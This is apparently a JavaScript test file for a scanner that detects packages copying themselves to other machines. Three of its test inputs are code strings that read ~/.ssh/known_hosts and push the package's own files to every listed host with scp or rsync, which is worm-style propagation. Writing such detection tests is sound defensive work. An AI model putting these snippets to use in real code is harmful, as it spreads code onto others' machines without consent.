import assert from 'node:assert/strict';
import { behavioursOf } from './sent.js';

const KNOWN = `fs.readFileSync(path.join(os.homedir(), '.ssh', 'known_hosts'), 'utf8').split('\\n')`;

describe('copies of the package itself', () => {
  const ways = [
    `for (const line of ${KNOWN}) cp.execFileSync('scp', ['-r', __dirname, line.split(' ')[0] + ':.cache']);`,
    `${KNOWN}.forEach((line) => cp.spawn('rsync', ['-az', path.join(__dirname, 'lib') + '/', line.split(' ')[0] + ':/tmp/x']));`,
    `for (const line of ${KNOWN}) cp.execSync('scp -q ' + __filename + ' ' + line.split(' ')[0] + ':x.js');`,
  ];
  for (const way of ways) {
    it(`go to machines that somebody has logged in to: ${way.slice(-70)}`, () =>
      assert.ok(behavioursOf(way).includes('copies-itself import'), behavioursOf(way).join()));
  }

  it('are none where a project is deployed to hosts that it names', () => {
    const hosts = `JSON.parse(fs.readFileSync('deploy.json', 'utf8')).hosts`;
    assert.deepEqual(
      behavioursOf(`for (const h of ${hosts}) cp.execFileSync('scp', ['-r', 'dist', h + ':/srv']);`),
      [],
    );
    assert.deepEqual(
      behavioursOf(`for (const h of ${hosts}) cp.execFileSync('scp', ['-r', __dirname, h + ':/srv']);`),
      [],
    );
  });
});
